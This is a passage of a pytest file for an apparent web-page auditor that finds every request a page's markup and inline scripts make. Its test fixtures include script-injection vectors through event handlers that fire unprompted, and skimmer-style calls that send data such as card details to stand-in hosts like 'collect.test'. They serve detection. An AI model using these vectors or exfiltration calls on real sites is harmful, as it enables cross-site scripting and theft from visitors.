"""The DOM walk: every request the markup and inline scripts make, with type and place."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from auditor.dom.inline_js import _URL_LITERAL, url_literals
from auditor.dom.page import parse_page
from auditor.dom.parser import PageOverLimit, parse_html
from auditor.dom.walk import (
    FoundURL,
    declared_page_url,
    head_sheet_sites,
    page_base,
    styling_site,
    walk,
)
from auditor.model import RequestType as T
from auditor.urls import host_of, registrable_domain
from tests.hostile.scaling import assert_linear

BASE = "https://site.test/dir/page.html"


def found(html: str, base: str | None = BASE) -> list[tuple[str, T, str]]:
    root = parse_html(html)
    resolved = page_base(root.iter("base"), base)
    return [(f.url, f.type, f.via) for f in walk(root, resolved) if f.assigned]


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        (
            '<script src="//a.magsrv.com/ad-provider.js"></script>',
            [("https://a.magsrv.com/ad-provider.js", T.SCRIPT, "script[src]")],
        ),
        (
            '<iframe src="https://ads.test/frame"></iframe>',
            [("https://ads.test/frame", T.SUBDOCUMENT, "iframe[src]")],
        ),
        # a consent manager's parked loaders load on consent: Klaro's `data-src`,
        # Complianz's `data-cmplz-src` and frame `data-src-cmplz`, iubenda's parked frame
        (
            '<script type="text/plain" data-src="https://assets.adobedtm.com/launch-EN1.min.js">'
            '</script><script type="text/plain" data-category="statistics" '
            'data-cmplz-src="https://www.googletagmanager.com/gtag/js?id=G-X1">fallback()</script>'
            '<iframe data-src-cmplz="https://www.youtube.com/embed/v1"></iframe>'
            '<iframe class="_iub_cs_activate" src="about:blank" '
            'data-suppressedsrc="https://player.vimeo.com/video/2"></iframe>',
            [("https://assets.adobedtm.com/launch-EN1.min.js", T.SCRIPT, "script[data-src]"),
             ("https://www.googletagmanager.com/gtag/js?id=G-X1", T.SCRIPT,
              "script[data-cmplz-src]"),
             ("https://www.youtube.com/embed/v1", T.SUBDOCUMENT, "iframe[data-src-cmplz]"),
             ("https://player.vimeo.com/video/2", T.SUBDOCUMENT, "iframe[data-suppressedsrc]")],
        ),
        # WP Rocket's scripts delayed until the first interaction, its lazy frames
        (
            '<script type="rocketlazyloadscript" '
            'data-rocket-src="https://static.hotjar.com/c/hotjar-7654321.js?sv=6"></script>'
            '<iframe src="about:blank" data-rocket-lazyload="fitvidscompatible" '
            'data-lazy-src="https://w.soundcloud.com/player/?url=t1"></iframe>',
            [("https://static.hotjar.com/c/hotjar-7654321.js?sv=6", T.SCRIPT,
              "script[data-rocket-src]"),
             ("https://w.soundcloud.com/player/?url=t1", T.SUBDOCUMENT, "iframe[data-lazy-src]")],
        ),
        # an AMP page requests through its components: a pixel, images, a frame, a video
        (
            '<amp-pixel src="https://pixel.tracker.test/p?rand=RANDOM" layout="nodisplay">'
            '</amp-pixel><amp-img src="/hero.jpg" srcset="/hero-2x.jpg 2x" width=1 height=1>'
            '</amp-img><amp-iframe src="https://embed.test/w" width=1 height=1></amp-iframe>'
            '<amp-video src="https://cdn.test/v.mp4" poster="/p.jpg"></amp-video>'
            '<amp-analytics config="https://www.googletagmanager.com/amp.json?id=GTM-AB12CD'
            '&amp;gtm.url=SOURCE_URL"></amp-analytics>',
            [("https://pixel.tracker.test/p?rand=RANDOM", T.IMAGE, "amp-pixel[src]"),
             ("https://site.test/hero.jpg", T.IMAGE, "amp-img[src]"),
             ("https://site.test/hero-2x.jpg", T.IMAGE, "amp-img[srcset]"),
             ("https://embed.test/w", T.SUBDOCUMENT, "amp-iframe[src]"),
             ("https://cdn.test/v.mp4", T.MEDIA, "amp-video[src]"),
             ("https://site.test/p.jpg", T.IMAGE, "amp-video[poster]"),
             ("https://www.googletagmanager.com/amp.json?id=GTM-AB12CD&gtm.url=SOURCE_URL",
              T.XMLHTTPREQUEST, "amp-analytics[config]")],
        ),
        # a template's or a data block's parked-looking URL loads nothing
        (
            '<script type="text/x-template" data-src="https://www.googletagmanager.com/gtag/js'
            '?id=G-TEMPLATE1"></script><script type="application/json" data-src="https://'
            'static.hotjar.com/c/hotjar-1234567.js">{}</script><script type="text/x-jsrender" '
            'data-src="https://cdn.test/widget.js"></script>'
            # nor is a template's text code (a consent config's JSON, a lazy image's markup)
            '<script type="text/template-picture"><img src="https://cdn.test/a.jpg"></script>'
            '<script type="application/configuration">{"privacyPage": '
            '"https://site.test/privacy.html"}</script>',
            [],
        ),
        # a real `src` wins over a parked one
        (
            '<script src="/own.js" data-src="https://other.test/x.js"></script>',
            [("https://site.test/own.js", T.SCRIPT, "script[src]")],
        ),
        (
            '<img src="a.png" srcset="b.png 1x, https://cdn.test/c.png 2x" data-src="/lazy.jpg">',
            [
                ("https://site.test/dir/a.png", T.IMAGE, "img[src]"),
                ("https://site.test/dir/b.png", T.IMAGE, "img[srcset]"),
                ("https://cdn.test/c.png", T.IMAGE, "img[srcset]"),
                ("https://site.test/lazy.jpg", T.IMAGE, "img[data-src]"),
            ],
        ),
        (
            '<link rel="stylesheet" href="/s.css"><link rel="preload" as="script" href="https://x.test/p.js">'
            '<link rel="prefetch" href="https://x.test/n.woff2">'
            '<link rel="dns-prefetch" href="//dns.test">'
            '<link rel="preconnect" href="https://pc.test"><link rel="canonical" href="/c">',
            [
                ("https://site.test/s.css", T.STYLESHEET, "link[stylesheet]"),
                ("https://x.test/p.js", T.SCRIPT, "link[preload]"),
                ("https://x.test/n.woff2", T.FONT, "link[prefetch]"),
                ("https://dns.test", T.OTHER, "link[dns-prefetch]"),
                ("https://pc.test", T.OTHER, "link[preconnect]"),
            ],
        ),
        (
            '<picture><source srcset="https://i.test/a.webp"></picture>'
            '<video src="https://v.test/v.mp4" poster="https://v.test/p.jpg"><source src="https://v.test/v.webm"></video>'
            '<audio src="https://v.test/a.mp3"></audio>',
            [
                ("https://i.test/a.webp", T.IMAGE, "source[srcset]"),
                ("https://v.test/v.mp4", T.MEDIA, "video[src]"),
                ("https://v.test/p.jpg", T.IMAGE, "video[poster]"),
                ("https://v.test/v.webm", T.MEDIA, "source[src]"),
                ("https://v.test/a.mp3", T.MEDIA, "audio[src]"),
            ],
        ),
        (
            '<embed src="https://o.test/x.swf"><object data="https://o.test/y"></object>',
            [
                ("https://o.test/x.swf", T.OBJECT, "embed[src]"),
                ("https://o.test/y", T.OBJECT, "object[data]"),
            ],
        ),
        (
            '<noscript><img height="1" width="1" src="https://www.facebook.com/tr?id=1&ev=PageView"></noscript>',
            [("https://www.facebook.com/tr?id=1&ev=PageView", T.IMAGE, "img[src]")],
        ),
        (
            '<meta http-equiv="refresh" content="0; url=https://evil.test/landing">',
            [("https://evil.test/landing", T.DOCUMENT, "meta[refresh]")],
        ),
        (
            "<script>var s=document.createElement('script');s.src='https://t.test/loader.js';</script>",
            [("https://t.test/loader.js", T.SCRIPT, "inline-script")],
        ),
        (
            "<script>var i=new Image(); i.src = 'https://px.test/collect?id=5';</script>",
            [("https://px.test/collect?id=5", T.IMAGE, "inline-script")],
        ),
        (
            "<div style=\"background-image: url('https://bg.test/ad.gif')\"></div>",
            [("https://bg.test/ad.gif", T.IMAGE, "style-url")],
        ),
        (
            '<a href="https://x.test/" ping="https://ping.test/p">x</a>',
            [("https://ping.test/p", T.PING, "a[ping]")],
        ),
        # not requests: links, data: URIs, javascript:, JSON-LD, share URLs in scripts
        (
            '<a href="https://www.bbc.co.uk/news">Source link</a>'
            '<img src="data:image/gif;base64,R0l">'
            '<iframe src="javascript:void(0)"></iframe>'
            '<script type="application/ld+json">{"url": "https://site.test/x.js"}</script>'
            "<script>var share = 'https://twitter.com/intent/tweet?u=1';</script>",
            [],
        ),
    ],
)
def test_walk_finds_requests(html: str, expected: list[tuple[str, T, str]]) -> None:
    assert found(html) == expected


# the snippets vendors gave before protocol-relative URLs: one string per scheme, the rest
# after (Google Analytics' ga.js, Quantcast, comScore, Chartbeat, Segment), written here
# as they are written on real pages
_SCHEMED_SNIPPETS = (
    "<script>var ga = document.createElement('script'); ga.async = true;"
    "ga.src = ('https:' == document.location.protocol ? 'https://ssl' : 'http://www')"
    " + '.google-analytics.com/ga.js';</script>"
    '<script>elem.src = (document.location.protocol == "https:" ? "https://secure" : '
    '"http://edge") + ".quantserve.com/quant.js";</script>'
    "<script>e.setAttribute('src', (document.location.protocol == 'http:' ? 'http://b' : "
    "'https://sb') + '.scorecardresearch.com/beacon.js');</script>"
    '<script>e.setAttribute("src", (("https:" == document.location.protocol) ? '
    '"https://a248.e.akamai.net/chartbeat.download.akamai.com/102508/" : '
    '"http://static.chartbeat.com/") + "js/chartbeat.js");</script>'
    '<script>e.src=("https:"===document.location.protocol?"https://":"http://")'
    '+"cdn.segment.com/analytics.js/v1/"+key+"/analytics.min.js";</script>'
)


@pytest.mark.parametrize(
    ("base", "expected"),
    [
        ("https://site.test/a", [
            "https://ssl.google-analytics.com/ga.js",
            "https://secure.quantserve.com/quant.js",
            "https://sb.scorecardresearch.com/beacon.js",
            "https://a248.e.akamai.net/chartbeat.download.akamai.com/102508/js/chartbeat.js",
            "https://cdn.segment.com/analytics.js/v1/",
        ]),
        ("http://site.test/a", [
            "http://www.google-analytics.com/ga.js",
            "http://edge.quantserve.com/quant.js",
            "http://b.scorecardresearch.com/beacon.js",
            "http://static.chartbeat.com/js/chartbeat.js",
            "http://cdn.segment.com/analytics.js/v1/",
        ]),
    ],
)
def test_a_loader_built_from_the_pages_scheme_is_requested_as_the_page_would(
        base: str, expected: list[str]) -> None:
    """Each snippet's URL is its branch for the page's scheme joined to the rest, once:
    the branches themselves (Chartbeat's are URLs) are not requests of their own."""
    root = parse_html(_SCHEMED_SNIPPETS)
    assert [f.url for f in walk(root, base)] == expected
    assert {f.type for f in walk(root, base)} == {T.SCRIPT}


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        # ga.js's first snippet: the host in a variable, the loader written as markup
        ("""var gaJsHost = (("https:" == document.location.protocol) ? "https://ssl." : """
         """"http://www.");\ndocument.write(unescape("%3Cscript src='" + gaJsHost + """
         """"google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E"));""",
         [("https://ssl.google-analytics.com/ga.js", T.SCRIPT, True)]),
        # AdRoll's: the host a variable, the path joined where it is assigned
        ("""var host = (("https:" == document.location.protocol) ? "https://s.adroll.com" : """
         """"http://a.adroll.com");\nscr.src = host + "/j/roundtrip.js";""",
         [("https://s.adroll.com/j/roundtrip.js", T.SCRIPT, True)]),
        # Revive's: a whole URL per scheme, joined to no literal, written as a src: one
        # request, not two
        ("""var m3_u = (location.protocol=='https:'?'https://ads.test/www/delivery/ajs.php':"""
         """'http://ads.test/www/delivery/ajs.php');\ndocument.write ("<scr"+"ipt src='"+m3_u);""",
         [("https://ads.test/www/delivery/ajs.php", T.SCRIPT, True)]),
        # Piwik 1.9's: the scheme's name alone, then the rest of its address
        ("""var u=(("https:" == document.location.protocol) ? "https" : "http") + """
         """"://stats.site.test/";\n_paq.push(['setTrackerUrl', u+'piwik.php']);\n"""
         """g.src=u+'piwik.js';""",
         [("https://stats.site.test/piwik.php", T.SCRIPT, False),
          ("https://stats.site.test/piwik.js", T.SCRIPT, True)]),
        # Clicky's: a whole URL per scheme assigned as it is
        ("""s.src = ( document.location.protocol == 'https:' ? 'https://static.getclicky.com/js'"""
         """ : 'http://static.getclicky.com/js' );""",
         [("https://static.getclicky.com/js", T.SCRIPT, True)]),
        # a config object before a scheme test keeps its own loader
        ("""var cfg = {\n  loader: 'https://a.magsrv.com/ad-provider.js',\n  cdn: """
         """location.protocol == 'https:' ? 'https://s.site.test' : 'http://s.site.test',\n};""",
         [("https://a.magsrv.com/ad-provider.js", T.SCRIPT, True),
          ("https://s.site.test", T.SCRIPT, False), ("http://s.site.test", T.SCRIPT, False)]),
        ("""s.src = 'https://ads.denied.test/loader.js'\nvar h = ('https:' == """
         """document.location.protocol ? 'https://ssl.x.test/' : 'http://www.x.test/')\n""",
         [("https://ads.denied.test/loader.js", T.SCRIPT, True),
          ("https://ssl.x.test/", T.SCRIPT, False)]),
        # a test of anything but the scheme chooses nothing: both are read
        ("""s.src = (mobile ? 'https://m.ads.test/a.js' : 'https://ads.test/a.js');""",
         [("https://m.ads.test/a.js", T.SCRIPT, True), ("https://ads.test/a.js", T.SCRIPT, True)]),
        ("""s.src = (isMobile ? 'https://m.site.test/m.js' : 'http://ads.test/tag.js');""",
         [("https://m.site.test/m.js", T.SCRIPT, True),
          ("http://ads.test/tag.js", T.SCRIPT, True)]),
        # a test of something else whose statement names the scheme chooses nothing
        ("""s.src = (document.body.classList.contains('m') ? 'https://m.site.test/m.js' : """
         """'http://ads.test/tag.js');""",
         [("https://m.site.test/m.js", T.SCRIPT, True),
          ("http://ads.test/tag.js", T.SCRIPT, True)]),
        # an escaped quote, a comment or another part of `location` is no scheme test
        ("""var p = 'https:' == location.protocol; s.src = (m == 'it\\'s' ? """
         """'https://m.site.test/a.js' : 'http://ads.test/a.js');""",
         [("https://m.site.test/a.js", T.SCRIPT, True), ("http://ads.test/a.js", T.SCRIPT, True)]),
        ("""s.src = (isMobile /* not the secure host */ ? 'https://m.site.test/a.js' : """
         """'http://ads.test/a.js');""",
         [("https://m.site.test/a.js", T.SCRIPT, True), ("http://ads.test/a.js", T.SCRIPT, True)]),
        ("""s.src = (location.hostname == 'm.site' ? 'https://m.site.test/a.js' : """
         """'http://ads.test/a.js');""",
         [("https://m.site.test/a.js", T.SCRIPT, True), ("http://ads.test/a.js", T.SCRIPT, True)]),
        ("""s.src = (isMobile // location.protocol\n ? 'https://m.site.test/a.js' : """
         """'http://ads.test/a.js');""",
         [("https://m.site.test/a.js", T.SCRIPT, True), ("http://ads.test/a.js", T.SCRIPT, True)]),
        # getsatisfaction's `is_ssl`
        ("""var is_ssl = ("https:" == document.location.protocol); var h = is_ssl ? """
         """'https://s3.test/' : 'http://s3.test/'; s.src = h + 'fastpass.js';""",
         [("https://s3.test/fastpass.js", T.SCRIPT, True)]),
        # a condition may quote a scheme's prefix
        ("""var h = (document.URL.indexOf('https://') == 0 ? 'https://ssl.' : 'http://www.');"""
         """ s.src = h + 'stats.test/ga.js';""",
         [("https://ssl.stats.test/ga.js", T.SCRIPT, True)]),
        # a URL in a condition is no part of the variable's value
        ("""var h = (load('https://ads.test/tag.js') && 'https:' == document.location.protocol"""
         """ ? 'https://ssl.' : 'http://www.'); s.src = h + 'stats.test/ga.js';""",
         [("https://ads.test/tag.js", T.SCRIPT, True)]),
    ],
)
def test_a_scheme_kept_in_a_variable_builds_the_url_it_is_joined_to(
        script: str, expected: list[tuple[str, T, bool]]) -> None:
    root = parse_html(f"<script>{script}</script>")
    assert [(f.url, f.type, f.assigned) for f in walk(root, BASE)] == expected


def test_a_snippet_takes_the_branch_of_the_pages_own_scheme() -> None:
    """`location.protocol` is the document's, whatever its `<base>` says."""
    root = parse_html('<base href="http://static.site.test/"><script>ga.src = ("https:" == '
                      'document.location.protocol ? "https://ssl" : "http://www") + '
                      '".google-analytics.com/ga.js";</script>')
    assert [f.url for f in walk(root, "http://static.site.test/", secure=True)] == [
        "https://ssl.google-analytics.com/ga.js"]


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        # Crazy Egg's older snippet: markup written with the page's scheme joined to a
        # protocol-relative rest, whose string the attribute's quote closes
        ("""document.write(unescape('%3Cscript type="text/javascript" src="'+document.location"""
         """.protocol+'//dnn506yrbagrg.cloudfront.net/pages/scripts/0011/4414.js"%3E%3C%2Fscript"""
         """%3E'))""",
         [("https://dnn506yrbagrg.cloudfront.net/pages/scripts/0011/4414.js", T.SCRIPT, True)]),
        ("""document.write("<img src='" + window.location.protocol + "//px.test/p.gif?id=7' """
         """width=1>");""",
         [("https://px.test/p.gif?id=7", T.IMAGE, True)]),
        # the scheme joined to a string that is no attribute's value loads nothing
        ("""var label = '"' + location.protocol + '//docs.test/a.js"';""", []),
    ],
)
def test_markup_written_with_the_pages_scheme_loads_its_address(
        script: str, expected: list[tuple[str, T, bool]]) -> None:
    root = parse_html(f"<script>{script}</script>")
    assert [(f.url, f.type, f.assigned) for f in walk(root, BASE)] == expected


@pytest.mark.parametrize("script", [
    "x = (secure ? 'https://' : 'http://') + 'localhost/a.js';",  # no host with a TLD
    "x = (secure ? 'https:' : 'http:') + '//cdn.test/a.js';",  # a literal of its own
    "x = (secure ? 'https://' : 'http://') + 'cdn.test/a b.js';",
])
def test_a_scheme_test_that_builds_no_url_adds_nothing(script: str) -> None:
    root = parse_html(f"<script>{script}</script>")
    urls = [f.url for f in walk(root, BASE)]
    assert urls == (["https://cdn.test/a.js"] if "'//cdn.test" in script else [])


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        # a counter's script written as markup, its tag split and its URL cut by a variable
        ("""document.write('<scr'+'ipt type="text/javascript" src="https://w.test/counter.js"""
         """?blog=Ab1&t=' + t +'"></scr'+'ipt>');""",
         [("https://w.test/counter.js?blog=Ab1&t=", T.SCRIPT)]),
        ("""document.write('<div><img src="https://px.test/na/' + token);""",
         [("https://px.test/na/", T.IMAGE)]),
        # a whole address the script writes loads as its element does
        ("""document.write('<img width=1 src="https://px.test/track?id=1">');""",
         [("https://px.test/track?id=1", T.IMAGE)]),
        ("""document.write("\\x3ciframe width=1 src='https://f.test/frame?z=" + zone + "'>");""",
         [("https://f.test/frame?z=", T.SUBDOCUMENT)]),
        # StatCounter splits its tag as `"<sc"+"ript"`, after an image of its own
        ("""document.write("<a href='https://site.test/'><img src='https://site.test/l.png'>"""
         """</a>");document.write("<sc"+"ript type='text/javascript' src='https://ads.test/"""
         """show?z=" + z + "'></sc"+"ript>");""",
         [("https://site.test/l.png", T.IMAGE), ("https://ads.test/show?z=", T.SCRIPT)]),
        # a link the script writes is no request, nor a URL cut anywhere but in a `src`
        ("""document.write('<a href="https://share.test/?u=' + u + '">');""", []),
        ("""var s = "title='https://share.test/?u=" + u;""", []),
        ("""document.write('<div data-src="https://x.test/w?id=' + id + '"></div>');""", []),
        ("""document.write("<a href='//www.counter.test/click' target=_blank>");""", []),
        # code's own `href =` after a link, and a stylesheet written after one, load
        ("""document.write('<a href="/">home</a>'); l.href='https://cdn.test/tag.js';""",
         [("https://cdn.test/tag.js", T.SCRIPT)]),
        ("""if (b<a/2) c(); l.href='//static.test/ga.js';""",
         [("https://static.test/ga.js", T.SCRIPT)]),
        ("""document.write('<a href="https://site.test/">x</a>'); document.write('<link """
         """rel="stylesheet" href="https://fonts.test/css?family=x">');""",
         [("https://fonts.test/css?family=x", T.STYLESHEET)]),
        # the tag open at the address decides, however the script escapes or splits it
        ("""document.write('<img src="https://px.test/p.gif">');document.write('\\u003cscript"""
         """ src="https://ads.test/loader?id=1"\\u003e\\u003c/script\\u003e');""",
         [("https://px.test/p.gif", T.IMAGE), ("https://ads.test/loader?id=1", T.SCRIPT)]),
        ("""document.write('<img src="https://px.test/p.gif">' + '<s'+'cript src="https://"""
         """ads.test/l?id=' + id + '"></s'+'cript>');""",
         [("https://px.test/p.gif", T.IMAGE), ("https://ads.test/l?id=", T.SCRIPT)]),
        # a <link> loads as its rel says; a feed's or a canonical address is no request
        ("""document.write('<link rel="preload" as="script" href="https://ads.test/l">');""",
         [("https://ads.test/l", T.SCRIPT)]),
        ("""document.write('<link rel="alternate" href="https://feeds.test/site">');""", []),
        ("""document.write('<link href="https://fonts.test/css?family=R" rel="stylesheet">');""",
         [("https://fonts.test/css?family=R", T.STYLESHEET)]),
        ("""document.write('<link rel="preload" href="https://ads.test/l" as="script">');""",
         [("https://ads.test/l", T.SCRIPT)]),
        ("""document.write('<link data-rel="x" rel="stylesheet" href="https://fonts.test/c">');""",
         [("https://fonts.test/c", T.STYLESHEET)]),
        # a `>` in a quoted value does not close the tag
        ("""document.write('<iframe title="a>b" src="https://ads.test/f"></iframe>');""",
         [("https://ads.test/f", T.SUBDOCUMENT)]),
        # code after a closed tag is no attribute; `<a/href` is a link
        ("""document.write('<img src="//px.test/p.gif">');var src="https://v.test/watch?v=x";""",
         [("https://px.test/p.gif", T.IMAGE)]),
        ("""document.write('<a/href="https://shop.test/p.html">');""", []),
        # an apostrophe in an unquoted value is no quote: the tag closes at its `>`, and
        # its unquoted `src` loads (Chromium 156 requested it), code's `src` after does not
        ("""document.write("<img alt=it's src=//px.test/p.gif>"); f('a'); """
         """var src="https://v.test/watch?v=x";""", [("https://px.test/p.gif", T.IMAGE)]),
        # markup written with unquoted addresses (Chromium 156 loaded each)
        ("""document.write('<script src=https://a.test/x.js></script>');""",
         [("https://a.test/x.js", T.SCRIPT)]),
        ("""document.write("<iframe width=1 height=1 src=//f.test/ad.html?a=1&amp;b=2>");""",
         [("https://f.test/ad.html?a=1&b=2", T.SUBDOCUMENT)]),
        ("""document.write('<a href=https://shop.test/p.html>x</a>');""", []),
        ("""var re = a ==//x.test/.test(b);""", []),
    ],
)
def test_the_start_of_a_src_a_script_writes_is_a_request(
        script: str, expected: list[tuple[str, T]]) -> None:
    root = parse_html(f"<script>{script}</script>")
    assert [(f.url, f.type) for f in walk(root, BASE) if f.assigned] == expected


def test_an_event_handlers_loader_is_a_request() -> None:
    """An injected loader needs no `<script>`: an image's `onerror`, an `<svg onload>`,
    a `<body onload>` run code the moment the page loads."""
    html = ('<body onload="new Image().src=\'https://px.test/p.gif\'">'
            '<img src="x" onerror="var s=document.createElement(&quot;script&quot;);'
            's.src=&quot;https://a.magsrv.com/x.js&quot;;document.head.appendChild(s)">'
            '<svg onload="fetch(\'https://collect.test/c\')"></svg>'
            '<span onmouseover="x(\'not a url\')">hover</span></body>')
    assert found(html) == [
        ("https://px.test/p.gif", T.IMAGE, "body[onload]"),
        ("https://a.magsrv.com/x.js", T.SCRIPT, "img[onerror]"),
        ("https://site.test/dir/x", T.IMAGE, "img[src]"),
        ("https://collect.test/c", T.XMLHTTPREQUEST, "svg[onload]"),
    ]


_PIXEL = "new Image().src='https://px.test/p.gif'"


@pytest.mark.parametrize(
    ("html", "via"),
    [  # each ran its handler in headless Chromium 156 with no input from the visitor
        (f'<input autofocus onfocus="{_PIXEL}">', "input[onfocus]"),
        (f'<input autofocus onfocusin="{_PIXEL}">', "input[onfocusin]"),
        (f'<body onpageshow="{_PIXEL}">x</body>', "body[onpageshow]"),
        (f'<details open ontoggle="{_PIXEL}">x</details>', "details[ontoggle]"),
        (f'<div style="animation:k 1s" onanimationstart="{_PIXEL}">x</div>',
         "div[onanimationstart]"),
        (f'<div style="animation:k 1s" onanimationend="{_PIXEL}">x</div>',
         "div[onanimationend]"),
        (f'<div ontransitionend="{_PIXEL}">x</div>', "div[ontransitionend]"),
        (f'<svg><animate attributeName=x dur=1s onbegin="{_PIXEL}"/></svg>', "animate[onbegin]"),
        (f'<svg><set attributeName=x to=1 dur=1s onend="{_PIXEL}"/></svg>', "set[onend]"),
        (f'<video autoplay muted src="v.mp4" onloadstart="{_PIXEL}"></video>',
         "video[onloadstart]"),
        (f'<body onscroll="{_PIXEL}"><input autofocus></body>', "body[onscroll]"),
        (f'<body onhashchange="{_PIXEL}"><meta http-equiv=refresh content="0;url=#x">',
         "body[onhashchange]"),
        (f'<body onbeforeunload="{_PIXEL}">x</body>', "body[onbeforeunload]"),
        (f'<div oncontentvisibilityautostatechange="{_PIXEL}">x</div>',
         "div[oncontentvisibilityautostatechange]"),
        (f'<style onload="{_PIXEL}">a{{}}</style>', "style[onload]"),
        (f'<INPUT AUTOFOCUS ONFOCUS="{_PIXEL}">', "input[onfocus]"),  # names in any case
        (f'<input autofocus/onfocus="{_PIXEL}">', "input[onfocus]"),  # after a slash
        (f'<input autofocus value="x"onfocus="{_PIXEL}">', "input[onfocus]"),  # a quote
        (f'<input autofocus\nonfocus = "{_PIXEL}">', "input[onfocus]"),
    ],
)
def test_a_handler_that_runs_unprompted_is_a_request(html: str, via: str) -> None:
    """An injected loader needs no `<script>` nor `onload`: an autofocused field's
    `onfocus`, an open `<details>`' `ontoggle`, a CSS animation's or an SVG animation's
    events run code with no click (a gate that read four handler names passed them)."""
    expected = ("https://px.test/p.gif", T.IMAGE, via)
    assert expected in found(html)
    page = parse_page(html)  # the page's view, selected by the needles' one pass
    assert expected in [(f.url, f.type, f.via) for f in walk(page.root, BASE, page)]


def test_many_handler_names_are_read_in_one_pass_and_unknown_ones_are_no_code() -> None:
    """Past a few names a page holds, every `on…` attribute is read at once; a name no
    browser runs (`onion`, a data attribute) holds no code."""
    names = ("onfocus", "ontoggle", "onpageshow", "onbegin", "onplay")
    html = "".join(f'<p {n}="new Image().src=\'https://{n}.test/p\'">x</p>' for n in names)
    html += '<p onion="new Image().src=\'https://onion.test/p\'">x</p>'
    page = parse_page(html)
    assert [f.url for f in walk(page.root, BASE, page)] == [
        f"https://{n}.test/p" for n in names]
    assert [c.source for c in page.codes] == list(names)


def test_a_later_body_tags_handler_runs_as_the_browser_merges_it() -> None:
    """A `<body onload>` pasted into a post, after the page's own `<body>` or its first
    text: browsers add the attributes the body lacks, libxml2 dropped them."""
    for html in ('<p>post</p><body onload="new Image().src=\'https://px.test/p.gif\'">',
                 '<html><body class="a"><p>post</p><BODY class="b" '
                 'onload="new Image().src=\'https://px.test/p.gif\'"></body></html>'):
        assert found(html) == [("https://px.test/p.gif", T.IMAGE, "body[onload]")]
    root = parse_html('<html><body class="a"><p>x</p><body class="b" id="late"></html>')
    assert root.find("body").attrib == {"class": "a", "id": "late"}
    # a handler holding `=>`; attribute names lxml refuses are left out, not a crash
    assert found("<p>post</p><body onload=\"setTimeout(()=>fetch('https://px.test/c'))\">"
                 ) == [("https://px.test/c", T.XMLHTTPREQUEST, "body[onload]")]
    for odd in ('<p>x</p><body {a="1">', '<p>x</p><body \x01="1">'):
        assert parse_html(odd).find("body") is not None


def test_a_links_handler_is_read_on_a_page_without_ping() -> None:
    """The walk leaves links out on a page with no `ping=`, but not one with a handler."""
    assert found("<p>x</p><a href='#' onmouseover=\"fetch('https://px.test/c')\">hi</a>") == [
        ("https://px.test/c", T.XMLHTTPREQUEST, "a[onmouseover]")]


@pytest.mark.parametrize(("script", "kind"), [
    ("fetch('https://collect.test/c', {method: 'POST'})", T.XMLHTTPREQUEST),
    ("navigator.sendBeacon('https://collect.test/c', data)", T.PING),
    ("var x = new XMLHttpRequest(); x.open('POST', 'https://collect.test/c')", T.XMLHTTPREQUEST),
    ("var es = new EventSource('https://collect.test/c')", T.XMLHTTPREQUEST),
    ("import('https://collect.test/c')", T.SCRIPT),
    ("import {a} from 'https://collect.test/c'", T.SCRIPT),
    ("const w = new Worker('https://collect.test/c')", T.SCRIPT),
    ("fetch(new Request('https://collect.test/c', {method: 'POST'}))", T.XMLHTTPREQUEST),
    ("var m = 'POST'; x.open(m, 'https://collect.test/c', true)", T.XMLHTTPREQUEST),
    ("x.open(cfg.method, 'https://collect.test/c')", T.XMLHTTPREQUEST),
    ("jQuery.post('https://collect.test/c', 'set_cookie=1', function(){})", T.XMLHTTPREQUEST),
    ("$.ajax('https://collect.test/c')", T.XMLHTTPREQUEST),
    ("axios.post('https://collect.test/c', card)", T.XMLHTTPREQUEST),
    ("$.getScript('https://collect.test/c')", T.SCRIPT),
    ("import {" + ", ".join(f"name{i}" for i in range(40)) + "} from 'https://collect.test/c'",
     T.SCRIPT),  # an import's names run far back from its address
])
def test_a_call_that_requests_its_address_is_a_request(script: str, kind: T) -> None:
    """A skimmer sends what it reads out by `fetch`, a beacon or an XHR, to a host no
    catalogue knows: the call makes the request, whatever the address's extension."""
    assert found(f"<script>{script}</script>") == [("https://collect.test/c", kind,
                                                   "inline-script")]


@pytest.mark.parametrize("script", [
    # jQuery's settings object and axios' config: the address is their `url` key, after
    # settings of literals or one-level objects (`data: {…}`)
    "$.ajax({url: 'https://collect.test/c', type: 'POST', data: {uid: uid, "
    "ref: document.referrer}})",
    "jQuery.ajax({\n  type: \"POST\",\n  dataType: \"json\",\n  data: {u: location.href},\n"
    "  url: \"https://collect.test/c\",\n  success: function (r) {}\n});",
    "$.post({url: 'https://collect.test/c', data: payload})",
    "axios({method: 'post', url: 'https://collect.test/c', data: {event: 'view'}})",
    "axios.request({'url': 'https://collect.test/c'})",
    # a name given the literal once, then handed to the call as its address
    "const ENDPOINT = 'https://collect.test/c';\nfetch(ENDPOINT, {method: 'POST', body: "
    "JSON.stringify(d), keepalive: true});",
    "var u = 'https://collect.test/c'; var x = new XMLHttpRequest(); x.open('POST', u, true);"
    " x.send(d);",
    "let beacon = \"https://collect.test/c\"; navigator.sendBeacon(beacon, data);",
    "var api = 'https://collect.test/c'; $.ajax({type: 'POST', url: api, data: d});",
    # used before a helper binds the name anew, or inside an `if` on it
    "var u = 'https://collect.test/c'; if (u) { fetch(u); } function g(u) { return u; }",
])
def test_a_request_calls_options_or_a_named_literal_is_its_address(script: str) -> None:
    """The literal forms a tracker's snippet writes its endpoint in, read one step from the
    call (never run): an options object's own `url`, a name given the URL once."""
    assert found(f"<script>{script}</script>") == [
        ("https://collect.test/c", T.XMLHTTPREQUEST, "inline-script")]


@pytest.mark.parametrize("script", [
    # an object's `url` that is no request's option: a share config, a deeper object's
    "var share = {url: 'https://collect.test/c', title: document.title};",
    "$.ajax({data: {share: {url: 'https://collect.test/c'}}, url: '/api/x'});",
    "$.ajax({success: function (r) { var s = {url: 'https://collect.test/c'}; }});",
    # a name given another value too, or handed to no request call
    "var u = 'https://collect.test/c'; u = u + '?x=1'; fetch(u);",
    "var u = 'https://collect.test/c'; share(u); fetch('/api/x');",
    # another variable of the name: a helper's parameter, an arrow's, a loop's
    "(function () { var url = 'https://collect.test/c'; el.href = url; })();\n"
    "function getJSON(url, cb) { return fetch(url).then(function (r) { return r.json(); }); }",
    "var url = 'https://collect.test/c'; a.href = url; const get = (url) => fetch(url);",
    "var url = 'https://collect.test/c'; a.href = url; const get = url => $.ajax({url: url});",
